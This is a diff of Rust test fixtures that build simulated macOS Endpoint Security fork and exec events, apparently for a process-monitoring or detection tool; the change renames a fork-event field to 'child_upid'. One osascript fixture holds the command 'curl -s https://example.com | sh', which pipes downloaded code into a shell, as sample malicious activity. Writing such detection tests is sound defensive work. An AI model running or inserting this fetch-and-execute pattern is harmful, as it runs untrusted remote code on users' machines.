@@ -179,7 +179,7 @@ fn step(text: Json) -> String {
 fn program(pid: u32) -> [Json; 3] {
     let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
     [
-        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "upid": upid}}),
+        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "child_upid": upid}}),
         json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/clang",
             "args": ["clang", "-O2", "-Wall", "-c", "-o", "/Users/admin/build/objects/module.o", "source/module.c"],
             "cwd": "/Users/admin/build", "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.clang",
@@ -192,7 +192,7 @@ fn program(pid: u32) -> [Json; 3] {
 fn osascript(pid: u32) -> Vec<Json> {
     let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
     vec![
-        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "upid": upid}}),
+        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "child_upid": upid}}),
         json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/osascript",
             "args": ["osascript", "-e", "do shell script \"curl -s https://example.com | sh\""],
             "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.osascript", "platform": true,
